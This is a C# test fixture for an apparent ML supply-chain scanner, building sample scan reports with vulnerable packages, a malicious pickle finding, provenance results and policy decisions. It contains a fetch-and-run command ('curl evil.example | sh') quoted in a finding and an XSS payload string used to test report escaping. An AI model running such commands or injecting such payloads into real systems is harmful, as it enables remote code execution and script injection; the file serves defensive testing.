using ModelGate.Advisories;
using ModelGate.Artifacts;
using ModelGate.Findings;
using ModelGate.Inventory;
using ModelGate.Policy;
using ModelGate.Provenance;
using ModelGate.Reporting;

namespace ModelGate.Tests.Reporting;

/// <summary>Reports built by hand with the policy's decision filled in, as the policy engine would.</summary>
internal static class ReportSamples
{
    public const string HostileMessage = "<script>window.__pwned=1</script>\"onmouseover=\"window.__pwned=2\" <img src=x onerror=window.__pwned=3>";

    private static readonly ThreatReference Ml06 = new("owasp-ml", "ML06", "AI supply chain attacks");
    private static readonly ThreatReference Cwe502 = new("cwe", "CWE-502", "Deserialization of untrusted data");
    private static readonly ThreatReference Atlas = new("mitre-atlas", "AML.T0011.000", "Unsafe AI artifacts");

    public static InventoryPackage Requests { get; } = new()
    {
        Ecosystem = Ecosystems.PyPI,
        Name = "requests",
        Version = "2.19.0",
        Specifier = "==2.19.0",
        Source = new SourceLocation("requirements.txt", 2),
        Direct = true,
        Extractor = "python/requirements",
    };

    public static InventoryPackage Numpy { get; } = new()
    {
        Ecosystem = Ecosystems.PyPI,
        Name = "numpy",
        Version = "1.19.5",
        Specifier = "==1.19.5",
        Source = new SourceLocation("requirements.txt", 3),
        Direct = true,
        Extractor = "python/requirements",
    };

    public static Finding VulnerableRequests { get; } = new()
    {
        Rule = Rules.KnownVulnerability,
        Severity = Severity.Medium,
        Title = "requests 2.19.0: PYSEC-2023-74",
        Message = "Unintended leak of Proxy-Authorization header in requests",
        Location = new SourceLocation("requirements.txt", 2),
        Package = "requests==2.19.0",
        Evidence = ["affected: <2.31.0"],
        Remediation = "Upgrade requests to 2.31.0",
        Threats = [Ml06],
        Discriminator = "PYSEC-2023-74",
    };

    public static Finding VulnerableNumpy { get; } = new()
    {
        Rule = Rules.KnownVulnerability,
        Severity = Severity.High,
        Title = "numpy 1.19.5: GHSA-fpfv-jqm9-f5jm",
        Message = "NULL pointer dereference in numpy.sort",
        Location = new SourceLocation("requirements.txt", 3),
        Package = "numpy==1.19.5",
        Remediation = "Upgrade numpy to 1.22.0",
        Threats = [Ml06],
        Discriminator = "GHSA-fpfv-jqm9-f5jm",
    };

    public static Finding PickleSystem { get; } = new()
    {
        Rule = Rules.DangerousCallable,
        Severity = Severity.Critical,
        Title = Rules.DangerousCallable.Title,
        Message = "GLOBAL os.system at byte 2, called with 'curl evil.example | sh'",
        Location = new SourceLocation("models/payload.pkl", Offset: 2),
        Artifact = "models/payload.pkl",
        Evidence = ["GLOBAL 'os system'", "REDUCE"],
        Remediation = "Do not load the file.",
        Threats = [Ml06, Atlas, Cwe502],
        Discriminator = "os.system",
    };

    public static Finding ArchiveMember { get; } = new()
    {
        Rule = Rules.UnknownCallable,
        Severity = Severity.High,
        Title = Rules.UnknownCallable.Title,
        Message = "GLOBAL mypkg.layers.Custom",
        Location = new SourceLocation("models/model weights.pt!archive/data.pkl", Offset: 57),
        Artifact = "models/model weights.pt!archive/data.pkl",
        Threats = [Ml06, Cwe502],
        Discriminator = "mypkg.layers.Custom",
    };

    public static Finding Unpinned { get; } = new()
    {
        Rule = Rules.UnpinnedRequirement,
        Severity = Severity.Low,
        Title = Rules.UnpinnedRequirement.Title,
        Message = "pandas>=1.0 allows any version from 1.0",
        Location = new SourceLocation("requirements.txt", 4),
        Package = "pandas",
    };

    public static Finding Hostile { get; } = new()
    {
        Rule = Rules.ParseError,
        Severity = Severity.High,
        Title = Rules.ParseError.Title,
        Message = HostileMessage,
        Location = new SourceLocation("requirements.txt", 9),
        Evidence = [HostileMessage],
    };

    public static Finding StaleWaiver { get; } = new()
    {
        Rule = Rules.WaiverStale,
        Severity = Severity.Low,
        Title = Rules.WaiverStale.Title,
        Message = "Waiver old-torch (owner bob@example.com) matched no finding",
        Location = new SourceLocation("modelgate-policy.yaml", 21),
    };

    /// <summary>A failing scan: a pickle payload, an archive member, a waived advisory, a warning, a stale waiver.</summary>
    public static ScanReport Failing(bool hostile = false)
    {
        List<(Finding Finding, FindingAction Action, string By, string? Message)> decided =
        [
            (PickleSystem, FindingAction.Fail, "threshold artifact: fail at high", null),
            (ArchiveMember, FindingAction.Fail, "threshold artifact: fail at high", null),
            (StaleWaiver, FindingAction.Pass, "threshold hygiene: warn at medium", null),
            (VulnerableRequests, FindingAction.Waived, "waiver requests-netrc", "Not reachable: we never send credentials through proxies"),
            (VulnerableNumpy, FindingAction.Warn, "rule numpy-transitive", "numpy findings warn until the upgrade lands"),
            (Unpinned, FindingAction.Ignore, "rule no-unpinned", "Pins live in the lock"),
        ];
        if (hostile)
            decided.Add((Hostile, FindingAction.Fail, "threshold parse-error: fail at high", HostileMessage));
        var findings = decided.Select(d => d.Finding).ToList();
        var decision = new PolicyDecision(Verdict.Fail,
        [
            "2 artifact finding(s) (MG2001, MG2002) at or above high: fail",
            "1 rule numpy-transitive finding(s): warn",
        ])
        {
            Policy = "modelgate-policy.yaml",
            Waivers =
            [
                new WaiverOutcome("requests-netrc", WaiverStatus.Applied, 1) { Reason = "Not reachable: we never send credentials through proxies", Owner = "alice@example.com", Expires = new DateOnly(2027, 1, 31) },
                new WaiverOutcome("old-torch", WaiverStatus.Stale, 0) { Reason = "torch 1.x pinned by the vendor", Owner = "bob@example.com", Expires = new DateOnly(2027, 6, 30) },
            ],
            Outcomes = [.. decided.Select(d => new FindingOutcome(d.Finding.Fingerprint, d.Action, d.By) { Message = d.Message })],
        };
        return new ScanReport
        {
            Tool = new ToolInfo("modelgate", "0.1.0"),
            Target = "examples/demo",
            Inventory = new ScanInventory
            {
                Packages = [Requests, Numpy],
                ModelArtifacts = [new ModelArtifact(new SourceLocation("models/payload.pkl"), "pickle", 64, new Dictionary<string, string>())],
                SourceFiles = ["models/model weights.pt", "models/payload.pkl", "requirements.txt"],
            },
            Vulnerabilities =
            [
                new Vulnerability { Package = Requests, Ids = ["PYSEC-2023-74", "CVE-2023-32681"], Severity = Severity.Medium, Cvss = new CvssRating("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:N/A:N", 6.1), Summary = "Proxy-Authorization header leak", Fixed = ["2.31.0"], Recommended = "2.31.0" },
                new Vulnerability { Package = Numpy, Ids = ["GHSA-fpfv-jqm9-f5jm"], Severity = Severity.High, Fixed = ["1.22.0"], Recommended = "1.22.0" },
            ],
            AdvisorySource = "OSV files in advisories/ (2 advisories)",
            ArtifactsScanned = true,
            Artifacts =
            [
                new ArtifactResult("models/model weights.pt", "pytorch-zip", 4096, ArtifactVerdict.Suspicious, null, [], []),
                new ArtifactResult("models/model weights.pt!archive/data.pkl", "pickle", 1024, ArtifactVerdict.Suspicious, null, [ArchiveMember.Fingerprint], [Rules.UnknownCallable.Id]),
                new ArtifactResult("models/payload.pkl", "pickle", 64, ArtifactVerdict.Malicious, null, [PickleSystem.Fingerprint], [Rules.DangerousCallable.Id]),
            ],
            Provenance =
            [
                new ModelProvenance
                {
                    Repo = "google-bert/bert-base-uncased",
                    RequestedRevision = "main",
                    Commit = new string('c', 40),
                    Pin = ProvenancePin.Lock,
                    LockFile = "modelgate.lock.json",
                    Files =
                    [
                        new ProvenanceFile("config.json", ProvenanceFileStatus.Verified) { Size = 570, Sha256 = new string('d', 64) },
                        new ProvenanceFile("model.safetensors", ProvenanceFileStatus.Changed) { Size = 440473133, Detail = "SHA-256 differs from the lock" },
                    ],
                },
            ],
            Findings = findings,
            Decision = decision,
            Timestamp = new DateTimeOffset(2026, 11, 25, 12, 0, 0, TimeSpan.Zero),
        };
    }

    /// <summary>A passing scan with no findings and the built-in policy.</summary>
    public static ScanReport Passing() => new()
    {
        Tool = new ToolInfo("modelgate", "0.1.0"),
        Target = "examples/clean",
        Inventory = new ScanInventory { Packages = [Numpy with { Version = "1.26.4", Specifier = "==1.26.4" }], SourceFiles = ["requirements.txt"] },
        Findings = [],
        Decision = GatePolicy.Default.Decide([]),
        Timestamp = new DateTimeOffset(2026, 11, 25, 12, 0, 0, TimeSpan.Zero),
    };

    public static async Task<string> WriteAsync(IReportWriter writer, ScanReport report)
    {
        using var stream = new MemoryStream();
        await writer.WriteAsync(report, stream, CancellationToken.None);
        return System.Text.Encoding.UTF8.GetString(stream.ToArray());
    }
}
